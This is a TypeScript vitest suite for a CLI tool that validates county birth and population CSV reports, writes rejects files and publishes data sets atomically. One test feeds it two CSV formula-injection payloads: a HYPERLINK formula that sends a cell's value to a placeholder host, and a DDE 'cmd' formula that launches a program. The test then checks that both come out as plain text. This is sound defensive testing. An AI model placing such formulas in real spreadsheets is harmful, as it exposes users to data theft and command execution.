import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { dumpExtractSet, fixtureCopy } from '../../../tests/unit/extract-dump';
import { recordingEffects } from '../effects';
import { main } from '../main';
import { sha256File } from './publish';
import { build } from './run';
import { createHash } from 'node:crypto';
import { configFromCompiled } from '../../lib/config';
import { SCHEMA_VERSION } from '../../lib/extract/schema';
import { loadConfigFiles, readConfigFiles } from '../config-files';

const tiny = 'tests/fixtures/tiny/input';

function snapshotDir(dir: string): Record<string, string> {
	const out: Record<string, string> = {};
	const walk = (d: string) => {
		for (const name of readdirSync(d, { withFileTypes: true })) {
			const p = join(d, name.name);
			if (name.isDirectory()) walk(p);
			else out[p.slice(dir.length)] = sha256File(p);
		}
	};
	walk(dir);
	return out;
}

async function withScratch<T>(overlay: string | undefined, fn: (input: string, root: string) => Promise<T>) {
	const s = fixtureCopy(tiny, overlay);
	try {
		return await fn(join(s.dir, 'input'), s.dir);
	} finally {
		s.cleanup();
	}
}

describe('kaoping build', () => {
	it('prints sorted errors naming file, line, column and rule, capped at --max-errors, and exits 1', async () => {
		await withScratch(undefined, async (input, root) => {
			const bad = ['code,period,submitted_on,births_total,births_male,births_female'];
			for (let m = 1; m <= 9; m++) bad.push(`990999002201,2023-0${m},2023-0${m}-28,x,1,1`);
			writeFileSync(join(input, 'reports', 'bad.csv'), bad.join('\n'));
			const { fx, stderr } = recordingEffects();
			const code = await main(['build', '--input', input, '--out', join(root, 'out'), '--max-errors', '4', '--lang', 'en'], fx);
			expect(code).toBe(1);
			const lines = stderr().split('\n').filter((l) => !l.startsWith('reading reports'));
			expect(lines.slice(0, 5)).toEqual([
				'reports/bad.csv:2: error: column births_total: not a non-negative integer — "x" [count_invalid]',
				'reports/bad.csv:3: error: column births_total: not a non-negative integer — "x" [count_invalid]',
				'reports/bad.csv:4: error: column births_total: not a non-negative integer — "x" [count_invalid]',
				'reports/bad.csv:5: error: column births_total: not a non-negative integer — "x" [count_invalid]',
				'… and 5 more errors'
			]);
			expect(stderr()).toMatch(/Nothing was published/);
			expect(existsSync(join(root, 'out'))).toBe(false);
		});
	});

	it('speaks Chinese by default', async () => {
		await withScratch('tests/fixtures/invalid/unit_unknown/overlay', async (input, root) => {
			const { fx, stderr } = recordingEffects();
			expect(await main(['build', '--input', input, '--out', join(root, 'out')], fx)).toBe(1);
			expect(stderr()).toContain('reports/jia-yicun.csv:3: 错误: 列 code: 单位代码不存在于 units.csv — "990999001299" [unit_unknown]');
			expect(stderr()).toContain('未发布任何数据');
		});
	});

	it('with --allow-rejects publishes the valid rows and writes the rejected ones with a reason', async () => {
		await withScratch('tests/fixtures/invalid/count_invalid/overlay', async (input, root) => {
			const { fx } = recordingEffects();
			const rejects = join(root, 'rejects.csv');
			const result = await build({ input, out: join(root, 'out'), rejects, allowRejects: true, maxErrors: 10, lang: 'en' }, fx);
			expect(result.published).toBe(true);
			expect(result.manifest?.rejects.rows).toBe(2);
			expect(result.manifest?.counts.reports).toBe(6);
			const text = readFileSync(rejects, 'utf8');
			expect(text.startsWith('\uFEFF')).toBe(true);
			const [header, first] = text.slice(1).split('\r\n');
			expect(header.split(',').slice(0, 5)).toEqual(['reject_file', 'reject_line', 'reject_reason', 'code', 'period']);
			expect(first).toMatch(/^reports\/jia-yicun\.csv,2,"?error: column pop_total: not a non-negative integer/);
			expect(first).toContain(',1000.5,');
		});
	});

	it('writes --rejects into a folder it creates, with formula cells as text', async () => {
		await withScratch('tests/fixtures/invalid/count_invalid/overlay', async (input, root) => {
			const bad = ['code,period,submitted_on,pop_total', '990999002201,2023-05,2023-06-01,=HYPERLINK("http://x/?"&A1;"点此")', "990999002201,2023-06,2023-07-01,=cmd|' /C calc'!A0"];
			writeFileSync(join(input, 'reports', 'formula.csv'), bad.join('\n'));
			const { fx, stderr } = recordingEffects();
			const rejects = join(root, 'not', 'yet', 'rejects.csv');
			const result = await build({ input, out: join(root, 'out'), rejects, allowRejects: false, maxErrors: 10, lang: 'en' }, fx);
			expect(result.published).toBe(false);
			expect(stderr()).toContain('reports/formula.csv:2: error:');
			const text = readFileSync(rejects, 'utf8');
			expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1;""点此"")"`);
			expect(text).toContain(`'=cmd|' /C calc'!A0`);
			// no cell of the file starts a formula
			for (const line of text.slice(1).split('\r\n')) expect(line.split(',').some((c) => /^"?[=@]/.test(c)), line).toBe(false);
		});
	});

	it('still prints every finding when the --rejects file cannot be written, naming its path', async () => {
		await withScratch('tests/fixtures/invalid/count_invalid/overlay', async (input, root) => {
			writeFileSync(join(root, 'a-file'), '');
			const rejects = join(root, 'a-file', 'rejects.csv'); // a folder that cannot be made
			const { fx, stderr } = recordingEffects();
			const result = await build({ input, out: join(root, 'out'), rejects, allowRejects: true, maxErrors: 10, lang: 'en' }, fx);
			expect(result.published).toBe(false);
			expect(stderr()).toContain('reports/jia-yicun.csv:2: error: column pop_total');
			expect(stderr()).toContain(`${rejects}: error:`);
			expect(result.issues.find((i) => i.rule === 'rejects_unwritable')?.file).toBe(rejects);
		});
	});

	it('takes a corrected rejects file back as a report', async () => {
		await withScratch('tests/fixtures/invalid/count_invalid/overlay', async (input, root) => {
			const { fx } = recordingEffects();
			const rejects = join(root, 'rejects.csv');
			await build({ input, out: join(root, 'out'), rejects, allowRejects: true, maxErrors: 10, lang: 'zh' }, fx);
			const fixed = readFileSync(rejects, 'utf8').replace(',1000.5,', ',1000,').replace(',-201,', ',201,');
			writeFileSync(join(input, 'reports', 'corrected.csv'), fixed);
			const again = await build({ input, out: join(root, 'out'), allowRejects: false, maxErrors: 10, lang: 'en' }, fx);
			const flat = again.issues.filter((i) => i.severity === 'error');
			// The originals are still in jia-yicun.csv; the corrected rows are now valid but duplicate nothing else.
			expect(flat.every((i) => i.file === 'reports/jia-yicun.csv')).toBe(true);
			// its rows left blank the measures the original file had no column for, and only that is said
			const corrected = again.issues.filter((i) => i.file === 'reports/corrected.csv');
			expect(new Set(corrected.map((i) => i.rule))).toEqual(new Set(['measure_blank']));
		});
	});

	it('leaves the previously published set exactly as it was when validation fails', async () => {
		await withScratch(undefined, async (input, root) => {
			const out = join(root, 'out');
			const { fx } = recordingEffects();
			expect((await build({ input, out, allowRejects: false, maxErrors: 5, lang: 'en' }, fx)).published).toBe(true);
			const before = snapshotDir(out);
			cpSync('tests/fixtures/invalid/row_width/overlay', input, { recursive: true });
			expect((await build({ input, out, allowRejects: false, maxErrors: 5, lang: 'en' }, fx)).published).toBe(false);
			expect(snapshotDir(out)).toEqual(before);
			expect(readdirSync(root).filter((n) => n.includes('.tmp-'))).toEqual([]);
		});
	});

	it('leaves the previous set in place and no staging behind when the final rename fails', async () => {
		await withScratch(undefined, async (input, root) => {
			const out = join(root, 'out');
			const { fx } = recordingEffects();
			await build({ input, out, allowRejects: false, maxErrors: 5, lang: 'en' }, fx);
			const before = snapshotDir(out);
			let calls = 0;
			const failing = {
				rename(from: string, to: string) {
					if (++calls === 2) throw new Error('disk full');
					cpSync(from, to, { recursive: true });
					rmSync(from, { recursive: true });
				}
			};
			await expect(build({ input, out, allowRejects: false, maxErrors: 5, lang: 'en' }, fx, failing)).rejects.toThrow('disk full');
			expect(snapshotDir(out)).toEqual(before);
			expect(readdirSync(root).filter((n) => n.startsWith('.out'))).toEqual([]);
		});
	});

	it('refuses to replace a directory that is not an extract set', async () => {
		await withScratch(undefined, async (input, root) => {
			const out = join(root, 'out');
			cpSync(tiny, out, { recursive: true });
			const { fx } = recordingEffects();
			await expect(build({ input, out, allowRejects: false, maxErrors: 5, lang: 'en' }, fx)).rejects.toThrow(/refusing to replace/);
			expect(existsSync(join(out, 'units.csv'))).toBe(true);
		});
	});

	it('uses a county config override and names the bad key when it is invalid', async () => {
		await withScratch(undefined, async (input, root) => {
			const scheme = readFileSync('data/config/scheme-2024.yaml', 'utf8');
			mkdirSync(join(input, 'config'));
			writeFileSync(join(input, 'config', 'scheme-2025.yaml'), scheme.replace('year: 2024', 'year: 2025').replace('[2024H1, 2024]', '[2025H1, 2025]'));
			const { fx } = recordingEffects();
			const ok = await build({ input, out: join(root, 'out'), allowRejects: false, maxErrors: 5, lang: 'en' }, fx);
			expect(ok.manifest?.config.schemes.map((s) => s.year)).toEqual([2024, 2025]);
			// the compiled configuration the site loads is the county's effective one, byte-checked
			const compiled = readFileSync(join(root, 'out', ok.manifest!.config.compiled.file));
			expect(createHash('sha256').update(compiled).digest('hex')).toBe(ok.manifest!.config.compiled.sha256);
			expect(configFromCompiled(JSON.parse(compiled.toString('utf8')), SCHEMA_VERSION)).toEqual(
				loadConfigFiles(readConfigFiles(join(input, 'config')))
			);
			expect(ok.inputs.map((i) => i.path)).toContain('config/scheme-2025.yaml');
			writeFileSync(join(input, 'config', 'scheme-2025.yaml'), scheme.replace('year: 2024', 'year: 2025'));
			const rec = recordingEffects();
			expect(await main(['build', '--input', input, '--out', join(root, 'out')], rec.fx)).toBe(1);
			expect(rec.stderr()).toContain('periods[0]: "2024H1" is not in the scheme year 2025');
		});
	});

	it('reads in worker threads with exactly the result of reading inline', async () => {
		await withScratch('tests/fixtures/invalid/duplicate_across_files/overlay', async (input, root) => {
			const { fx } = recordingEffects();
			const run = (workers: number) =>
				build({ input, out: join(root, `out-${workers}`), allowRejects: true, maxErrors: 5, lang: 'en', workers }, fx);
			const inline = await run(0);
			const threaded = await run(2);
			expect(threaded.issues).toEqual(inline.issues);
			expect(threaded.manifest?.counts).toEqual(inline.manifest?.counts);
			expect(threaded.inputs).toEqual(inline.inputs);
			const dump = async (dir: string) => (await dumpExtractSet(dir)).tables;
			expect(await dump(join(root, 'out-2'))).toEqual(await dump(join(root, 'out-0')));
			expect(inline.rejectedRows).toBe(2);
		});
	});

	it('rejects usage errors with exit code 2', async () => {
		const { fx, stderr } = recordingEffects();
		expect(await main(['build', '--input', tiny], fx)).toBe(2);
		expect(stderr()).toContain('--out is required');
	});
});
